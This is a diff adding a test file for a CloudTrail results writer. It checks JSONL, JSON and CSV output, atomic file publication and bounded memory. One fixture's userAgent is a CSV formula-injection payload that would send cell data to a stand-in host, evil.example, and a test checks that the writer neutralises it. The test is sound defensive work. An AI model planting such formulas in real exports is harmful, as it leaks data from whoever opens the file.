@@ -1,0 +1,248 @@
+/**
+ * Results files: each format read back by an independent reader (JSON.parse, jq, Python's csv
+ * module), atomic publication, and bounded memory on a large stream.
+ */
+import { describe, it, expect, beforeEach, afterEach } from 'vitest';
+import { execFileSync } from 'node:child_process';
+import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
+import { existsSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { atomicWriteFile, openResultWriter } from '../../src/report/writers.js';
+import type { MatchedEvent } from '../../src/engines/types.js';
+
+function event(record: Record<string, unknown>): MatchedEvent {
+  return {
+    record,
+    json: JSON.stringify(record),
+    eventID: record.eventID as string | undefined,
+    region: record.awsRegion as string | undefined,
+  };
+}
+
+const HOSTILE: Array<Record<string, unknown>> = [
+  {
+    eventVersion: '1.08',
+    userIdentity: {
+      type: 'IAMUser',
+      principalId: 'AIDAEXAMPLE',
+      arn: 'arn:aws:iam::111122223333:user/al,ice',
+      accountId: '111122223333',
+      accessKeyId: 'AKIAEXAMPLE',
+      userName: 'al,ice',
+    },
+    eventTime: '2023-07-10T10:00:00Z',
+    eventSource: 's3.amazonaws.com',
+    eventName: 'GetObject',
+    awsRegion: 'eu-west-1',
+    sourceIPAddress: '203.0.113.7',
+    userAgent: 'agent "quoted", with comma\nand newline\r\nand CRLF',
+    requestParameters: { bucketName: 'b', key: 'a "b", c\nd' },
+    responseElements: null,
+    additionalEventData: { 'x-amz-id-2': 'abc=' },
+    requestID: 'REQ1',
+    eventID: 'id-1',
+    readOnly: true,
+    resources: [{ accountId: '111122223333', type: 'AWS::S3::Bucket', ARN: 'arn:aws:s3:::b' }],
+    eventType: 'AwsApiCall',
+    managementEvent: false,
+    recipientAccountId: '111122223333',
+    eventCategory: 'Data',
+  },
+  {
+    eventVersion: '1.08',
+    userIdentity: { type: 'AWSService', invokedBy: 'ec2.amazonaws.com' },
+    eventTime: '2023-07-10T11:00:00Z',
+    eventSource: 'sts.amazonaws.com',
+    eventName: 'AssumeRole',
+    awsRegion: 'us-east-1',
+    sourceIPAddress: 'ec2.amazonaws.com',
+    userAgent: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    errorCode: 'AccessDenied',
+    errorMessage: '-2+3 ünïcödé ✓ \u202e',
+    requestParameters: { roleArn: 'arn:aws:iam::111122223333:role/r' },
+    responseElements: null,
+    requestID: 'c3f7',
+    eventID: 'id-2',
+    readOnly: false,
+    eventType: 'AwsApiCall',
+    managementEvent: true,
+    recipientAccountId: '111122223333',
+    eventCategory: 'Management',
+    filtered_resource: { ARN: 'arn:aws:iam::111122223333:role/r', type: 'AWS::IAM::Role' },
+  },
+];
+
+let dir: string;
+beforeEach(async () => {
+  dir = await mkdtemp(path.join(os.tmpdir(), 'ct-writers-'));
+});
+afterEach(async () => {
+  await rm(dir, { recursive: true, force: true });
+});
+
+async function writeAll(
+  format: 'jsonl' | 'json' | 'csv',
+  records: Array<Record<string, unknown>>,
+  name = `results.${format}`,
+) {
+  const writer = await openResultWriter(dir, name, format);
+  for (const r of records) await writer.write(event(r));
+  await writer.commit();
+  return path.join(dir, name);
+}
+
+describe('JSONL', () => {
+  it('writes one record per line that reads back equal (JSON.parse and jq)', async () => {
+    const file = await writeAll('jsonl', HOSTILE);
+    const lines = (await readFile(file, 'utf8')).split('\n');
+    expect(lines.at(-1)).toBe('');
+    expect(lines.slice(0, -1).map((l) => JSON.parse(l))).toEqual(HOSTILE);
+    expect(execFileSync('jq', ['-r', '.eventID', file], { encoding: 'utf8' })).toBe('id-1\nid-2\n');
+  });
+
+  it('keeps one event per line even when the engine text is pretty-printed', async () => {
+    const writer = await openResultWriter(dir, 'r.jsonl', 'jsonl');
+    await writer.write({ ...event(HOSTILE[0]!), json: JSON.stringify(HOSTILE[0], null, 2) });
+    await writer.commit();
+    const lines = (await readFile(path.join(dir, 'r.jsonl'), 'utf8')).trimEnd().split('\n');
+    expect(lines).toHaveLength(1);
+    expect(JSON.parse(lines[0]!)).toEqual(HOSTILE[0]);
+  });
+});
+
+describe('JSON', () => {
+  it('writes a JSON array that reads back equal', async () => {
+    const file = await writeAll('json', HOSTILE);
+    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual(HOSTILE);
+    expect(execFileSync('jq', ['length', file], { encoding: 'utf8' }).trim()).toBe('2');
+  });
+
+  it('writes [] for no matches', async () => {
+    const file = await writeAll('json', []);
+    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual([]);
+  });
+});
+
+describe('CSV', () => {
+  /** Rows as Python's csv module (RFC 4180 dialect) reads them. */
+  function pythonRows(file: string): string[][] {
+    const script =
+      'import csv,json,sys\nwith open(sys.argv[1], newline="", encoding="utf-8") as f: print(json.dumps(list(csv.reader(f))))';
+    return JSON.parse(execFileSync('python3', ['-c', script, file], { encoding: 'utf8' })) as string[][];
+  }
+
+  it('writes the fixed header and one row per event, nested values as JSON, readable by a CSV parser', async () => {
+    const file = await writeAll('csv', HOSTILE);
+    const raw = await readFile(file, 'utf8');
+    expect(
+      raw.startsWith(
+        'eventTime,eventSource,eventName,awsRegion,sourceIPAddress,userAgent,userIdentity.type,',
+      ),
+    ).toBe(true);
+    expect(raw.endsWith('\r\n')).toBe(true);
+    const [header, ...rows] = pythonRows(file);
+    expect(rows).toHaveLength(2);
+    const col = (row: string[], name: string) => row[header!.indexOf(name)];
+    for (const name of [
+      'userIdentity.arn',
+      'userIdentity.accountId',
+      'userIdentity.principalId',
+      'userIdentity.userName',
+      'userIdentity.accessKeyId',
+      'userIdentity.sessionContext.sessionIssuer.arn',
+      'errorCode',
+      'errorMessage',
+      'requestParameters',
+      'responseElements',
+      'additionalEventData',
+      'resources',
+      'requestID',
+      'eventID',
+      'readOnly',
+      'eventType',
+      'recipientAccountId',
+      'eventCategory',
+      'filtered_resource',
+    ]) {
+      expect(header).toContain(name);
+    }
+    const [first, second] = rows as [string[], string[]];
+    expect(col(first, 'eventName')).toBe('GetObject');
+    expect(col(first, 'userIdentity.userName')).toBe('al,ice');
+    expect(col(first, 'userAgent')).toBe('agent "quoted", with comma\nand newline\r\nand CRLF');
+    expect(JSON.parse(col(first, 'requestParameters')!)).toEqual(HOSTILE[0]!.requestParameters);
+    expect(JSON.parse(col(first, 'resources')!)).toEqual(HOSTILE[0]!.resources);
+    expect(col(first, 'responseElements')).toBe('');
+    expect(col(first, 'readOnly')).toBe('true');
+    expect(col(first, 'errorCode')).toBe('');
+    expect(col(second, 'userIdentity.type')).toBe('AWSService');
+    expect(col(second, 'errorCode')).toBe('AccessDenied');
+    expect(JSON.parse(col(second, 'filtered_resource')!)).toEqual(HOSTILE[1]!.filtered_resource);
+    expect(col(second, 'readOnly')).toBe('false');
+  });
+
+  it("prefixes cells that a spreadsheet would run as formulas with '", async () => {
+    const file = await writeAll('csv', HOSTILE);
+    const [header, , second] = pythonRows(file) as [string[], string[], string[]];
+    expect(second[header.indexOf('userAgent')]).toBe(`'${HOSTILE[1]!.userAgent as string}`);
+    expect(second[header.indexOf('errorMessage')]).toBe(`'${HOSTILE[1]!.errorMessage as string}`);
+  });
+});
+
+describe('atomicity', () => {
+  it('creates nothing under the final name before commit, and a hidden temp file that commit renames', async () => {
+    const writer = await openResultWriter(dir, 'results.jsonl', 'jsonl');
+    await writer.write(event(HOSTILE[0]!));
+    expect(existsSync(path.join(dir, 'results.jsonl'))).toBe(false);
+    const during = await readdir(dir);
+    expect(during).toHaveLength(1);
+    expect(during[0]).toMatch(/^\.results\.jsonl\..*\.tmp$/);
+    await writer.commit();
+    expect(await readdir(dir)).toEqual(['results.jsonl']);
+  });
+
+  it('removes the temp file on abort and leaves an older results file untouched', async () => {
+    await writeFile(path.join(dir, 'results.json'), 'previous run');
+    const writer = await openResultWriter(dir, 'results.json', 'json');
+    await writer.write(event(HOSTILE[0]!));
+    await writer.abort();
+    await writer.abort();
+    expect(await readdir(dir)).toEqual(['results.json']);
+    expect(await readFile(path.join(dir, 'results.json'), 'utf8')).toBe('previous run');
+    await expect(writer.write(event(HOSTILE[1]!))).rejects.toThrow(/aborted/);
+  });
+
+  it('atomicWriteFile replaces a file whole and leaves no temp file, even when it fails', async () => {
+    const target = path.join(dir, 'summary.json');
+    await writeFile(target, 'old');
+    await atomicWriteFile(target, '{"new":true}\n');
+    expect(await readFile(target, 'utf8')).toBe('{"new":true}\n');
+    expect(await readdir(dir)).toEqual(['summary.json']);
+    await expect(atomicWriteFile(path.join(dir, 'missing-folder', 'plan.json'), '{}')).rejects.toThrow();
+    expect(await readdir(dir)).toEqual(['summary.json']);
+  });
+});
+
+describe('large results', () => {
+  it('streams 200,000 events with bounded memory', async () => {
+    const base = { ...HOSTILE[0]!, padding: 'x'.repeat(600) };
+    const n = 200_000;
+    const writer = await openResultWriter(dir, 'big.jsonl', 'jsonl');
+    const before = process.memoryUsage().heapUsed;
+    let peak = before;
+    for (let i = 0; i < n; i++) {
+      const record = { ...base, eventID: `id-${i}` };
+      await writer.write({ record, json: JSON.stringify(record), eventID: `id-${i}`, region: 'eu-west-1' });
+      if (i % 5000 === 0) peak = Math.max(peak, process.memoryUsage().heapUsed);
+    }
+    await writer.commit();
+    const file = path.join(dir, 'big.jsonl');
+    // About 1 KB per event: ~200 MB written. Buffering it would grow the heap by as much.
+    expect(Number(execFileSync('wc', ['-l', file], { encoding: 'utf8' }).split(' ')[0])).toBe(n);
+    expect(
+      execFileSync('bash', ['-c', `tail -n1 '${file}' | jq -r .eventID`], { encoding: 'utf8' }).trim(),
+    ).toBe(`id-${n - 1}`);
+    expect(peak - before).toBeLessThan(64 * 1024 * 1024);
+  });
+});
